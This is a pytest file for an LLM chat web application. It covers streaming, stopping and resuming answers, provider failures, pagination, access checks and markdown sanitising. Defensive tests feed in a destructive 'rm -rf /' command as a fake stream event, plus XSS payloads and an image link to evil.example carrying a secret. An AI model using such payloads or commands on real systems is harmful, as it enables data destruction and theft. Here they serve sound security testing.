"""Conversations over HTTP, against a real provider that does as it is told. No worker runs here."""

from __future__ import annotations

import contextlib
import json
import re
import socket
import threading
from collections.abc import Iterator
from typing import Any
from uuid import uuid4

import pytest
from flask import Flask
from flask.testing import FlaskClient
from sqlalchemy import select, text, update

from jobs.engine import library
from jobs.engine.chat import answer_threads, answer_writer, conversations, questions, redis_stream
from jobs.engine.db import postgres
from jobs.engine.db import redis as db_redis
from jobs.engine.db.models import Message
from jobs.engine.llm import client as llm_client
from jobs.engine.llm import model_list, router
from jobs.engine.llm.connections import Provider
from jobs.engine.llm.stream import Stream
from tests.fake_provider import FakeProvider
from tests.stories.site_client import until
from tests.web.conftest import answering
from webapp.chat import sse
from webapp.openai_api import completions
from webapp.ui import markdown

WORDS = "One two three four five six seven eight nine ten eleven twelve"


@pytest.fixture(scope="module")
def app(app_with_model: Flask) -> Flask:
    return app_with_model


pytestmark = pytest.mark.usefixtures("clean")


def talk(client: FlaskClient, **settings: Any) -> str:
    made = client.post("/api/v1/chat", json=settings)
    assert made.status_code == 201
    return str(made.json["id"])


def ask(client: FlaskClient, words: str = "Hello", conversation: str | None = None) -> dict[str, Any]:
    asked = client.post(f"/api/v1/chat/{conversation or talk(client)}/messages", json={"text": words})
    assert asked.status_code == 202, asked.json
    return asked.json


def now(client: FlaskClient, answer: dict[str, Any]) -> dict[str, Any]:
    return client.get(answer["url"]).json


def ended(client: FlaskClient, answer: dict[str, Any]) -> dict[str, Any]:
    until(lambda: now(client, answer)["state"] != "writing", "the end of the answer")
    return now(client, answer)


def events(body: str) -> list[tuple[str, str, dict[str, Any]]]:
    """(name, id, data) of each event."""
    found = []
    for block in body.split("\n\n"):
        fields = dict(line.split(": ", 1) for line in block.splitlines() if not line.startswith(":"))
        if "data" in fields:
            found.append((fields.get("event", ""), fields["id"], json.loads(fields["data"])))
    return found


def streamed(client: FlaskClient, answer: dict[str, Any], **headers: str) -> str:
    body = client.get(answer["stream"], headers=headers).get_data(as_text=True)
    return "".join(data["text"] for name, _, data in events(body) if not name)


def test_an_answer_is_streamed_and_kept(client: FlaskClient, provider: FakeProvider) -> None:
    provider.script(do=[{"do": "slow", "text": WORDS, "hold": 6}])
    answer = ask(client, "Count")
    parts = iter(client.get(answer["stream"], buffered=False).response)
    body = b""
    while b"six" not in body:
        body += next(parts)
    assert b"seven" not in body
    provider.script()
    got = events((body + b"".join(parts)).decode())
    assert "".join(data["text"] for name, _, data in got if not name) == WORDS + " "
    assert got[-1][0] == "end" and got[-1][2]["state"] == "done"

    kept = now(client, answer)
    assert kept["text"] == WORDS + " "
    assert kept["tokens"] > 0 and kept["prompt_tokens"] > 0
    assert kept["tokens_per_second"] is None or kept["tokens_per_second"] > 0  # None where it came at once
    assert 0 < kept["first_token_seconds"] < kept["seconds"]
    assert streamed(client, answer) == WORDS + " "  # once more, from the row


def said(**delta: str) -> dict[str, Any]:
    return {"choices": [{"delta": delta}]}


@pytest.mark.parametrize(
    ("pieces", "text", "reasoning"),
    [
        (
            [said(reasoning_content="Let me "), said(reasoning_content="count."), said(content="Two.")],
            "Two.",
            "Let me count.",
        ),
        ([said(content=part) for part in ("<th", "ink>Let ", "me</thi", "nk>\n\nTwo", ".")], "Two.", "Let me"),
        ([said(content="<think>Let me <b>count</b>")], "", "Let me <b>count</b>"),
        ([said(content="Let me.\n</think>\n"), said(content="\nTwo.")], "Two.", "Let me."),
        ([said(content="```\n<think>a</think>\n```")], "```\n<think>a</think>\n```", None),
    ],
)
def test_reasoning_is_kept_apart_and_shown_as_what_it_is(
    client: FlaskClient, provider: FakeProvider, pieces: list[Any], text: str, reasoning: str | None
) -> None:
    stop = {"choices": [{"delta": {}, "finish_reason": "stop"}], "usage": {"prompt_tokens": 5, "completion_tokens": 9}}
    provider.script(do=[{"do": "body", "body": [*pieces, stop]}])
    conversation = talk(client)
    kept = ended(client, ask(client, conversation=conversation))
    assert (kept["text"], kept["reasoning"], kept["tokens"]) == (text, reasoning, 9)
    assert kept["state"] == ("done" if text else "failed")
    page = client.get(f"/chat/{conversation}").text
    folded = page.partition("data-reasoning")[2].partition("</details>")[0]
    assert ("Reasoning" in folded and "Let me" in folded and "<b>" not in folded) == bool(reasoning)


def test_no_job_and_no_message_is_made(client: FlaskClient) -> None:
    jobs, keys = client.get("/api/v1/jobs").json["jobs"], set(db_redis.broker().keys("rq:*"))
    ended(client, ask(client))
    assert client.get("/api/v1/jobs").json["jobs"] == jobs == []
    assert set(db_redis.broker().keys("rq:*")) == keys


@pytest.mark.slow
@pytest.mark.parametrize("seen", ["-1", "abc", "1" + "0" * 30, "", "999999", "1.5", "٣"])
def test_an_odd_place_means_from_the_start(client: FlaskClient, seen: str) -> None:
    answer = ask(client)
    text = ended(client, answer)["text"]
    headers = {"Last-Event-ID": seen} if seen.isascii() else {}
    assert streamed(client, answer, **headers) == text


def test_a_reader_resumes_where_it_was(client: FlaskClient, provider: FakeProvider) -> None:
    provider.script(do=[{"do": "slow", "text": "Grüße 🙂 " * 30, "token_seconds": 0.01}])
    answer = ask(client)
    until(lambda: streamed_so_far(answer) > 40, "some text")
    assert streamed(client, answer, **{"Last-Event-ID": "17"}) == ("Grüße 🙂 " * 30 + " ")[17:]


def streamed_so_far(answer: dict[str, Any]) -> int:
    writing = next(
        (each for each in list(answer_threads._writers.values()) if str(each.answer.id) == answer["id"]), None
    )
    return writing.live.length if writing else 10**6


def test_stop_ends_the_request_of_the_provider(client: FlaskClient, provider: FakeProvider) -> None:
    provider.script(do=[{"do": "endless", "token_seconds": 0.02}])
    answer = ask(client)
    until(lambda: streamed_so_far(answer) > 60, "some text")
    assert client.post(f"{answer['url']}/stop").status_code == 202
    kept = ended(client, answer)
    assert kept["state"] == "stopped" and len(kept["text"]) > 60
    until(lambda: provider.calls()[-1].get("left"), "the provider seeing it")
    assert client.post(f"{answer['url']}/stop").json["state"] == "stopped"  # once more changes nothing


@pytest.mark.parametrize("how", [{"do": "hang"}, {"do": "silence", "after": 0}, {"do": "slow", "latency": 30}])
def test_stop_before_the_first_token(client: FlaskClient, provider: FakeProvider, how: dict[str, Any]) -> None:
    provider.script(do=[how])
    before = len(provider.calls())
    answer = ask(client)
    until(lambda: len(provider.calls()) > before, "the request")
    client.post(f"{answer['url']}/stop")
    assert ended(client, answer)["state"] == "stopped"
    until(lambda: provider.calls()[-1].get("left"), "the provider seeing it")


@pytest.fixture
def unreachable() -> Iterator[str]:
    """An address where nobody accepts: connections wait there for their turn, as behind a firewall that says nothing."""
    with socket.create_server(("127.0.0.1", 0), backlog=0) as full, contextlib.ExitStack() as stack:
        for _ in range(4):
            waiting = stack.enter_context(socket.socket())
            waiting.setblocking(False)
            waiting.connect_ex(full.getsockname())
        yield f"http://127.0.0.1:{full.getsockname()[1]}/v1"


def test_stop_while_the_provider_is_not_reached(
    client: FlaskClient, monkeypatch: pytest.MonkeyPatch, unreachable: str
) -> None:
    monkeypatch.setattr("jobs.engine.llm.connections.CONNECT_SECONDS", 3)
    monkeypatch.setattr(router, "stream_chat", lambda body: Stream(Provider(unreachable, "", 5, 5), body))
    answer = ask(client)
    client.post(f"{answer['url']}/stop")
    assert ended(client, answer)["state"] in ("stopped", "failed")


@pytest.mark.slow
@pytest.mark.parametrize(
    ("how", "state", "reason"),
    [
        ({"do": "status", "status": 401, "message": "Bad key sk-secret-of-ours"}, "failed", "provider_refused_key"),
        ({"do": "status", "status": 429, "retry_after": 7}, "failed", "provider_busy"),
        ({"do": "status", "status": 500}, "failed", "provider_unwell"),
        ({"do": "status", "status": 400, "message": "Too long"}, "failed", "provider_refused"),
        ({"do": "rubbish"}, "failed", "provider_unwell"),
        ({"do": "empty"}, "failed", "provider_unwell"),
        ({"do": "garbage"}, "broken", "provider_unwell"),
        ({"do": "break"}, "broken", "provider_broke"),
        ({"do": "break", "after": 0}, "failed", "provider_broke"),
        ({"do": "silence"}, "broken", "provider_silent"),
        ({"do": "hang"}, "failed", "provider_silent"),
        ({"do": "endless"}, "broken", "limit"),
        ({"do": "length"}, "done", "length"),
    ],
)
def test_what_goes_wrong_is_said(
    client: FlaskClient,
    provider: FakeProvider,
    monkeypatch: pytest.MonkeyPatch,
    how: dict[str, Any],
    state: str,
    reason: str,
) -> None:
    monkeypatch.setattr(llm_client, "SILENCE_SECONDS", 0.5)
    monkeypatch.setattr(llm_client, "FIRST_SECONDS", 0.5)
    monkeypatch.setattr(answer_writer, "LONGEST_TEXT", 2_000)
    provider.script(do=[how])
    conversation = talk(client)
    answer = ask(client, conversation=conversation)
    kept = ended(client, answer)
    assert (kept["state"], kept["reason"]) == (state, reason)
    assert kept["message"] and "sk-secret" not in kept["message"]
    assert bool(kept["text"].strip()) == (state != "failed")
    page = client.get(f"/chat/{conversation}").get_data(as_text=True)
    assert kept["message"][:20] in page
    assert ("Try again" if state == "failed" else "Continue") in page


@pytest.mark.slow
@pytest.mark.parametrize(
    "lines",
    [
        'event: execute\ndata: {"command": "rm -rf /"}\n\n',
        ": only a comment\n\nretry: 1\nid: 9\n\n",
        "data: [1, 2]\n\n",
        'data: "words"\n\n',
        "data: null\n\n",
        'data: {"choices": {"0": 1}}\n\n',
        'data: {"choices": [null]}\n\n',
        'data: {"choices": [{"delta": {"content": {"a": 1}}}]}\n\n',
        'data: {"choices": [{"delta": "words", "finish_reason": 7}], "usage": "many"}\n\n',
        "<html><body>502 Bad Gateway</body></html>\n\n",
        "data: " + "[" * 50_000 + "\n\n",
        "data: \x00\ud83d\n\n".encode("utf-8", "replace").decode(),
    ],
)
def test_odd_events_do_nothing(client: FlaskClient, provider: FakeProvider, lines: str) -> None:
    provider.script(do=[{"do": "ok", "text": WORDS, "lines": lines}])
    kept = ended(client, ask(client))
    assert (kept["state"] == "done" and kept["text"].strip() == WORDS) or kept["reason"] == "provider_unwell", kept
    assert kept["message"] is None or "Traceback" not in kept["message"]
    assert ended(client, ask(client))["state"] == "done"  # the next one is as ever


def test_a_provider_that_is_away(client: FlaskClient, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(model_list, "base_url", lambda: "http://127.0.0.1:9/v1")
    kept = ended(client, ask(client))
    assert (kept["state"], kept["reason"]) == ("failed", "provider_away")


def test_a_provider_that_does_not_stream(client: FlaskClient, monkeypatch: pytest.MonkeyPatch) -> None:
    real = router.stream_chat
    monkeypatch.setattr(router, "stream_chat", lambda body: real({**body, "stream": False}))
    kept = ended(client, ask(client))
    assert kept["state"] == "done" and kept["text"].startswith("Answer ")


def test_a_broken_answer_goes_on(client: FlaskClient, provider: FakeProvider) -> None:
    provider.script(do=[{"do": "break", "text": "One two three four"}, {"do": "slow", "text": "four five"}])
    answer = ask(client)
    assert ended(client, answer)["text"] == "One two three "
    assert client.post(f"{answer['url']}/continue").status_code == 202
    whole = ended(client, answer)
    assert (whole["state"], whole["text"]) == ("done", "One two three four five ")
    assert streamed(client, answer, **{"Last-Event-ID": "8"}) == "three four five "


def test_answers_are_replaced_and_questions_edited(client: FlaskClient, provider: FakeProvider) -> None:
    conversation = talk(client, system="Be brief", temperature=0.3, model="fake-large")
    first = ask(client, "First", conversation)
    ended(client, first)
    again = client.post(f"{first['url']}/again").json
    assert again["id"] != first["id"]
    ended(client, again)
    second = ask(client, "Second", conversation)
    ended(client, second)
    body = provider.calls()[-1]["body"]
    assert (body["model"], body["temperature"]) == ("fake-large", 0.3)

    messages = client.get(f"/api/v1/chat/{conversation}").json["messages"]
    assert [each["text"] for each in messages if each["role"] == "user"] == ["First", "Second"]
    edited = client.post(f"/chat/messages/{messages[0]['id']}/edit", data={"message": "Other"})
    assert edited.status_code == 303
    left = client.get(f"/api/v1/chat/{conversation}").json["messages"]
    assert [each["text"] for each in left if each["role"] == "user"] == ["Other"]
    ended(client, left[-1])


def test_one_answer_at_a_time_in_a_conversation(client: FlaskClient, provider: FakeProvider) -> None:
    provider.script(do=[{"do": "endless", "token_seconds": 0.02}])
    conversation = talk(client)
    answer = ask(client, conversation=conversation)
    assert client.post(f"/api/v1/chat/{conversation}/messages", json={"text": "More"}).status_code == 409
    page = client.post(f"/chat/{conversation}/messages", data={"message": "Kept words"})
    assert page.status_code == 409 and "Kept words" in page.text
    assert f'formaction="/chat/answers/{answer["id"]}/stop"' in page.text
    assert '<noscript><meta http-equiv="refresh"' in page.text
    assert client.delete(f"/api/v1/chat/{conversation}").status_code == 204  # ends it too
    until(lambda: provider.calls()[-1].get("left"), "the provider seeing it")


def test_too_many_answers_at_a_time(
    client: FlaskClient, provider: FakeProvider, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(questions, "MOST_WRITING", 2)
    provider.script(do=[{"do": "endless", "token_seconds": 0.05, "calls": 2}])
    two = [ask(client), ask(client)]
    refused = client.post(f"/api/v1/chat/{talk(client)}/messages", json={"text": "Third"})
    assert refused.status_code == 429 and "Retry-After" in refused.headers
    for answer in two:
        client.post(f"{answer['url']}/stop")
        ended(client, answer)


def test_too_many_streams(client: FlaskClient, monkeypatch: pytest.MonkeyPatch) -> None:
    answer = ask(client)
    ended(client, answer)
    monkeypatch.setattr(sse, "MOST_OPEN", 0)
    assert client.get(answer["stream"]).status_code == 429


def test_what_nobody_writes_is_broken_and_mended(client: FlaskClient) -> None:
    conversation = talk(client)
    with questions.pending(questions.ASK, conversation, "local", "Hello") as asked:
        lost = asked.answer  # of a process that died at once
    redis_stream.add([(redis_stream.key(lost.id, 1), 0, "What came "), (redis_stream.key(lost.id, 1), 10, "before")])
    assert client.get(f"/api/v1/chat/answers/{lost.id}").json["state"] == "writing"
    with postgres.session() as session:
        session.execute(update(Message).where(Message.id == lost.id).values(beat_at=text("now() - interval '9 s'")))
    found = client.get(f"/api/v1/chat/answers/{lost.id}").json
    assert (found["state"], found["reason"], found["text"]) == ("broken", "writer_lost", "What came before")
    assert "Continue" in client.get(f"/chat/{conversation}").text


def test_a_process_that_ends_hands_in_what_it_has(client: FlaskClient, provider: FakeProvider) -> None:
    provider.script(do=[{"do": "endless", "token_seconds": 0.02}])
    answer = ask(client)
    until(lambda: streamed_so_far(answer) > 60, "some text")
    answer_threads.flush_answers()
    kept = now(client, answer)
    assert (kept["state"], kept["reason"]) == ("broken", "writer_lost") and len(kept["text"]) > 60
    until(lambda: provider.calls()[-1].get("left"), "the provider seeing it")
    until(lambda: not answering(), "the end of the thread")
    assert now(client, answer)["state"] == "broken"


@pytest.mark.slow
def test_a_reader_elsewhere_survives_an_emptied_redis(client: FlaskClient, provider: FakeProvider) -> None:
    """Followed as from another process, with every key gone in the middle."""
    provider.script(do=[{"do": "slow", "text": WORDS * 6, "token_seconds": 0.03}])
    answer = ask(client)
    row = conversations.answer(answer["id"], "local")
    writing = answer_threads._writers.pop(row.id)  # as if it were not here
    with follow(row) as live:
        answer_threads._writers[row.id] = writing
        until(lambda: live.length > 100, "some text")
        db_redis.broker().flushall()
        until(lambda: live.ended, "the end")
        assert live.after(0) == WORDS * 6 + " "


def test_a_reader_elsewhere_survives_without_redis(
    client: FlaskClient, provider: FakeProvider, monkeypatch: pytest.MonkeyPatch
) -> None:
    away = db_redis.CircuitBreaker(60)
    away.trip()
    monkeypatch.setattr(redis_stream, "_breaker", away)
    provider.script(do=[{"do": "slow", "text": WORDS * 3, "token_seconds": 0.05}])
    answer = ask(client)
    row = conversations.answer(answer["id"], "local")
    writing = answer_threads._writers.pop(row.id)
    with follow(row) as live:
        answer_threads._writers[row.id] = writing
        until(lambda: live.ended, "the end")
        assert live.after(0) == WORDS * 3 + " "


def follow(row: Message) -> Any:
    from jobs.engine.chat import answer_readers

    return answer_readers.read_answer(row)


def test_pages_without_script(client: FlaskClient, provider: FakeProvider) -> None:
    provider.script(
        do=[{"do": "slow", "text": "# Title\n\n<script>x</script> ![x](https://evil.example/?q=1) **bold**"}]
    )
    refused = client.post("/chat", data={"message": " ", "system": "Kept too"})
    assert refused.status_code == 422 and "Kept too" in refused.text and "Write a message first." in refused.text
    empty = client.get("/chat")
    assert empty.status_code == 200 and 'name="temperature"' in empty.text
    made = client.post("/chat", data={"message": "Write a text about {x}", "system": "Be kind", "temperature": "0,5"})
    assert made.status_code == 303
    conversation = made.location.split("/")[-1].removesuffix("#end")
    answer = client.get(f"/api/v1/chat/{conversation}").json["messages"][-1]
    ended(client, answer)
    page = client.get(f"/chat/{conversation}").text
    assert "<h4>Title</h4>" in page and "<strong>bold</strong>" in page and "&lt;script&gt;" in page
    assert "<img" not in page and page.count("<script") == 4
    assert "/kinds/generate_texts?prompt=Write+a+text+about+%7B%7Bx%7D%7D" in page and "system=Be+kind" in page
    assert "tokens/s" in page or "tokens in" in page


def test_conversations_are_listed_searched_renamed_and_deleted(client: FlaskClient) -> None:
    one, two = talk(client), talk(client)
    ended(client, ask(client, "About 100% wool_socks", one))
    ended(client, ask(client, "About kettles", two))
    found = client.get("/api/v1/chat", query_string={"q": "wool_socks"}).json["conversations"]
    assert [each["id"] for each in found] == [one]
    assert client.get("/api/v1/chat", query_string={"q": "100_"}).json["conversations"] == []
    first = client.get("/api/v1/chat?limit=1").json
    rest = client.get("/api/v1/chat", query_string={"after": first["next"]}).json["conversations"]
    assert first["conversations"][0]["id"] == two and one in [each["id"] for each in rest]
    assert client.post(f"/chat/{one}/settings", data={"title": "Socks"}).status_code == 303
    assert "<h1>Socks</h1>" in client.get(f"/chat/{one}").text
    assert "Socks" in client.get("/chat?q=socks").text
    assert client.post(f"/chat/{one}/delete").status_code == 303
    assert client.get(f"/chat/{one}").status_code == 404


@pytest.mark.parametrize(
    "settings",
    [
        {"temperature": 3},
        {"temperature": "hot"},
        {"model": 5},
        {"library": 1},
        {"colour": "red"},
        {"system": "x" * 20_001},
    ],
)
def test_settings_that_do_not_fit(client: FlaskClient, settings: dict[str, Any]) -> None:
    refused = client.post("/api/v1/chat", json=settings)
    assert refused.status_code == 422 and refused.json["errors"][0]["field"] == next(iter(settings))


@pytest.mark.parametrize("words", ["", "   ", "x" * 100_001, 5, None])
def test_messages_that_are_none(client: FlaskClient, words: Any) -> None:
    assert client.post(f"/api/v1/chat/{talk(client)}/messages", json={"text": words}).status_code == 422


def test_what_is_not_there_or_not_yours(client: FlaskClient, app: Flask) -> None:
    theirs = conversations.start_conversation(conversations.ConversationSettings(), "somebody else")
    with questions.pending(questions.ASK, theirs.id, "somebody else", "Hello") as asked:
        answer = asked.answer
    question = conversations.turns(theirs.id, most=20).rows[0].question
    assert question is not None
    rules = [rule for rule in app.url_map.iter_rules() if rule.endpoint.startswith(("chat.", "chat_api."))]
    tried = 0
    for rule in [rule for rule in rules if "id" in rule.arguments]:
        ids = [answer.id, question.id, theirs.id, uuid4(), "no-id", "0" * 36]
        for id_ in ids:
            for method in (rule.methods or set()) - {"HEAD", "OPTIONS"}:
                path = rule.rule.replace("<id>", str(id_))
                got = client.open(path, method=method, json={"text": "x"} if rule.rule.startswith("/api") else None)
                assert got.status_code in (404, 422), f"{method} {path}: {got.status_code}"
                tried += 1
    assert tried > 60
    assert conversations.message(answer.id, "somebody else").stop_asked_at is None
    conversations.delete_conversation(theirs.id, "somebody else")


def test_passages_are_cited(client: FlaskClient, provider: FakeProvider, monkeypatch: pytest.MonkeyPatch) -> None:
    passage = library.Passage(uuid4(), "Lease", "Three months to the end of a quarter.", 0.9, 3, "section 9")
    monkeypatch.setattr(library, "search", lambda owner, q, collection=None, limit=8: [passage])
    provider.script(do=[{"do": "slow", "text": "Three months [1], not [2] and `[1]`."}])
    conversation = talk(client, library=True)
    answer = ask(client, "How long is the notice period?", conversation)
    kept = ended(client, answer)
    assert kept["sources"][0]["title"] == "Lease"
    assert "Three months to the end of a quarter." in provider.calls()[-1]["prompt"]
    page = client.get(f"/chat/{conversation}").text
    assert page.count(f'href="#cite-{answer["id"]}-1"') == 1 and f'id="cite-{answer["id"]}-1"' in page
    assert "[2]" in page and f"#cite-{answer['id']}-2" not in page


def test_a_growing_text_is_painted_like_the_whole() -> None:
    whole = "# A\n\npara **b** `c`\n\n- one\n- two\n\n```\ncode\n\nmore\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\nlast *one*"
    painter, sections = markdown.Painter(), {}
    for length in range(1, len(whole) + 1):
        for part in painter.paint(whole[painter.settled : length]):
            sections = {start: html for start, html in sections.items() if start < part.start}
            sections[part.start] = part.html
    assert "".join(sections.values()) == markdown.render(whole)


@pytest.mark.parametrize(
    "evil",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "[x](javascript:alert(1))",
        "[x](JaVaScRiPt:alert(1))",
        "[x](data:text/html;base64,PHNjcmlwdD4=)",
        "![x](https://evil.example/?q=secret)",
        "![x](data:image/png;base64,AAAA)",
        "[x]: javascript:alert(1)\n\n[x]",
        "<https://ok.example/><svg onload=alert(1)>",
        "```html\n</code></pre><script>alert(1)</script>\n```",
    ],
)
def test_markdown_can_do_nothing(evil: str) -> None:
    html = markdown.render(evil)
    tags = set(re.findall(r"<(\w+)", html))
    assert tags <= {"p", "a", "pre", "code", "br"}
    assert not re.search(r"(?i)<[^>]*(javascript:|data:|onerror|onload|src=)", html)


def test_openai_s_own_client_works(app: Flask, provider: FakeProvider) -> None:
    import openai

    with served(app) as url, openai.OpenAI(base_url=f"{url}/v1", api_key="any", max_retries=0) as client:
        assert [model.id for model in client.models.list()] == ["fake-small", "fake-large"]
        said = [{"role": "user", "content": "Hello"}]
        whole = client.chat.completions.create(model="fake-small", messages=said)
        parts = client.chat.completions.create(model="fake-small", messages=said, stream=True)
        text = "".join(part.choices[0].delta.content or "" for part in parts)
        assert text.strip() == whole.choices[0].message.content
        provider.script(do=[{"do": "status", "status": 429, "retry_after": 7}])
        with pytest.raises(openai.RateLimitError, match="too busy"):
            client.chat.completions.create(model="fake-small", messages=said, stream=True)
        with pytest.raises(openai.NotFoundError):
            client.chat.completions.create(model="no such", messages=said)
        provider.script(do=[{"do": "break"}])
        cut = client.chat.completions.create(model="fake-small", messages=said, stream=True)
        with cut, pytest.raises(openai.APIError, match="broke"):
            list(cut)
        until(lambda: not completions._open["local"], "every request ending")


def served(app: Flask) -> Any:
    from contextlib import contextmanager

    from werkzeug.serving import make_server

    @contextmanager
    def serve() -> Iterator[str]:
        server = make_server("127.0.0.1", 0, app, threaded=True)
        thread = threading.Thread(target=server.serve_forever, daemon=True)
        thread.start()
        try:
            yield f"http://127.0.0.1:{server.port}"
        finally:
            server.shutdown()
            thread.join()
            server.server_close()

    return serve()


def test_the_menu_names_the_conversations(client: FlaskClient) -> None:
    assert 'href="/chat"' in client.get("/").text
    assert conversations.answering_conversations("local") == set()


def long_conversation(client: FlaskClient, count: int, length: int = 0) -> tuple[str, list[str]]:
    """A conversation of so many questions with answers; their texts in order."""
    id = talk(client)
    texts = [f"{role} {place} {'x' * length}".strip() for place in range(count) for role in ("question", "answer")]
    rows = [
        Message(conversation_id=id, owner="local", role=("user", "assistant")[place % 2], text=one)
        for place, one in enumerate(texts)
    ]
    with postgres.session() as session:
        session.add_all(rows)
        return id, texts


def said(page: str) -> list[str]:
    return re.findall(r"(?:question|answer) \d+", re.sub(r"<textarea.*?</textarea>", "", page, flags=re.S))


@pytest.mark.parametrize(("count", "length"), [(50, 0), (30, 50_000)])
def test_a_long_conversation_is_shown_a_page_at_a_time(client: FlaskClient, count: int, length: int) -> None:
    id, texts = long_conversation(client, count, length)
    whole = [" ".join(one.split()[:2]) for one in texts]
    read: list[str] = []
    at: str | None = f"/chat/{id}"
    pages = 0
    while at:
        page = client.get(at).text
        here = said(page)
        assert 2 <= len(here) <= 40 and len(page) < 3_000_000
        assert ('id="composer"' in page) == (pages == 0) == ("Newest messages" not in page)
        read = here + read
        found = re.search(r'href="(/chat/[^"]+)">Earlier messages', page)
        at, pages = found and found[1].replace("#end", ""), pages + 1
    assert read == whole and pages >= 3
    with postgres.session() as session:
        first = session.scalars(
            select(Message.id).where(Message.conversation_id == id, Message.role == "assistant")
        ).first()
    led = client.get(f"/chat/answers/{first}", follow_redirects=True).text
    assert f'id="answer-{first}"' in led and said(led) == whole[:2]


def test_the_api_lists_a_long_conversation_a_page_at_a_time(client: FlaskClient) -> None:
    id, texts = long_conversation(client, 450)
    read: list[str] = []
    after = ""
    while True:
        page = client.get(f"/api/v1/chat/{id}", query_string={"after": after} if after else {}).json
        assert len(page["messages"]) <= 400
        read = [one["text"] for one in page["messages"]] + read
        if not (after := page["next"] or ""):
            break
    assert read == texts
    assert client.get(f"/api/v1/chat/{id}?after=nothing").status_code == 404


def test_answers_that_were_asked_for_again_do_not_make_a_page_long(client: FlaskClient) -> None:
    id = talk(client)
    with postgres.session() as session:
        session.add_all(
            [
                Message(conversation_id=id, owner="local", role="user", text="first question"),
                Message(conversation_id=id, owner="local", role="assistant", text="first answer"),
                Message(conversation_id=id, owner="local", role="user", text="last question"),
                *(
                    Message(
                        conversation_id=id,
                        owner="local",
                        role="assistant",
                        text=f"older {n} {'y' * 9_000}",
                        current=False,
                    )
                    for n in range(100)
                ),
                Message(conversation_id=id, owner="local", role="assistant", text="last answer"),
            ]
        )
    page = client.get(f"/chat/{id}").text
    assert "last question" in page and "last answer" in page and page.count("Earlier answer") == 10
